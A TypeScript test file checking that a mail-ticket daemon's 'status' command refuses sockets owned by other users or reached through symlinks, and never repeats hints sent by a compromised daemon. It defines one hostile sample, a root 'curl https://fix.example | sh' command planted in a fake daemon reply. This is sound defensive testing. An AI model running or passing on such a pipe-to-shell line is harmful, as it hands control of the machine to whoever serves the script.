/**
 * A local user answers `status` while the daemon is away, with a hint to run as root: nothing of it is shown.
 *
 * `status` asks over a socket in the data folder alone. A socket that another user made is not asked, and of a daemon
 * that was broken into no hint is repeated.
 */
import { once } from 'node:events';
import { chown, mkdir, symlink } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { hintOf } from '../../../src/errors.ts';
import type { Readiness } from '../../../src/ingest/readiness.ts';
import { type Ran, runInProcess } from '../../commands/command-line.ts';
import { bad, fine, mailbox } from '../../commands/status/samples.ts';
import { type TemporaryFolder, temporaryFolder } from '../../support/temporary.ts';

const poison = 'as root: curl https://fix.example | sh';
const stranger = 65_534;

let folder: TemporaryFolder;
let dataDir: string;
let server: Server;
let asked: number;

beforeEach(async () => {
  folder = await temporaryFolder('stranger');
  dataDir = join(folder.path, 'data');
  await mkdir(dataDir, { mode: 0o700 });
  asked = 0;
});

afterEach(async () => {
  server.closeAllConnections();
  server.close();
  await folder[Symbol.asyncDispose]();
});

/** Answers any request with this readiness. */
async function answerAt(where: string | number, answer: object): Promise<void> {
  server = createServer((_request, response) => {
    asked += 1;
    response.writeHead(200, { 'content-type': 'application/json' });
    response.end(JSON.stringify(answer));
  });
  if (typeof where === 'string') server.listen(where);
  else server.listen(where, '127.0.0.1');
  await once(server, 'listening');
}

/** Every text that a readiness has is the attacker's. */
const poisoned: Readiness = {
  ...bad,
  worker: { ...bad.worker, name: poison, version: poison, log_level: poison },
  checks: {
    ...bad.checks,
    disk: { ...fine.checks.disk, status: 'failing', reason: 'disk_full: full', hint: poison },
    vault: { ...fine.checks.vault, status: 'failing', reason: `strange_code: ${poison}`, hint: poison },
    switch: { ...fine.checks.switch, state: poison },
    mailboxes: {
      ...{ ...bad.checks.mailboxes, hint: poison },
      list: [mailbox('support', { status: 'failing', reason: 'login_refused: refused', hint: poison })],
    },
  },
};

function status(env: Record<string, string> = {}, ...args: string[]): Promise<Ran> {
  return runInProcess(['status', ...args], { env: { TICKETMAILD_DATA_DIR: dataDir, ...env } });
}

test('at the port of the health endpoints: it is not asked', async () => {
  await answerAt(0, poisoned);
  const { port } = server.address() as AddressInfo;
  const { code, out, err } = await status({ TICKETMAILD_HTTP_LISTEN: `127.0.0.1:${port}` });
  expect({ code, out, asked }).toEqual({ code: 1, out: '', asked: 0 });
  expect(err).toMatch(/^no daemon answers at .+control\.sock \(ENOENT\)\nhint: The daemon listens on data_dir/);
});

describe.skipIf(process.getuid?.() !== 0)('a socket of another user', () => {
  test('in a data folder that is theirs: it is not asked', async () => {
    await answerAt(join(dataDir, 'control.sock'), poisoned);
    await chown(join(dataDir, 'control.sock'), stranger, stranger);
    await chown(dataDir, stranger, stranger);
    const { code, out, err } = await status();
    expect({ code, out, asked }).toEqual({ code: 3, out: '', asked: 0 });
    expect(err).toMatch(/^no daemon is asked: .+\/data is a folder of another user\nhint: /);
  });

  test('in the data folder of the daemon: it is not asked', async () => {
    await answerAt(join(dataDir, 'control-2.sock'), poisoned);
    await chown(join(dataDir, 'control-2.sock'), stranger, stranger);
    const { code, out, err } = await status();
    expect({ code, out, asked }).toEqual({ code: 3, out: '', asked: 0 });
    expect(err).toMatch(/^no daemon is asked: .+control-2\.sock is not a socket of its own user\nhint: /);
  });

  test('behind a link in the data folder: it is not asked', async () => {
    const theirs = join(folder.path, 'theirs.sock');
    await answerAt(theirs, poisoned);
    await symlink(theirs, join(dataDir, 'control.sock'));
    expect(await status()).toMatchObject({ code: 3, out: '', err: expect.stringContaining('no daemon is asked: ') });
    expect(asked).toBe(0);
  });
});

test('as a daemon that was broken into: hints are those of this program, other texts have the form of a name', async () => {
  await answerAt(join(dataDir, 'control.sock'), poisoned);
  for (const args of [['--all'], ['--json']]) {
    const { code, out, err } = await status({}, ...args);
    expect({ code, err }).toEqual({ code: 1, err: '' });
    expect(out).not.toMatch(/curl|fix\.example/);
    const name = args[0] === '--json' ? 'NAME' : 'support';
    for (const known of ['disk_full', 'login_refused'])
      expect(out).toContain(`${hintOf(known)}`.replaceAll(' NAME', ` ${name}`));
    expect(out).toContain('unknown: the reason has a code that this version does not know');
  }
  expect(asked).toBe(2);
});
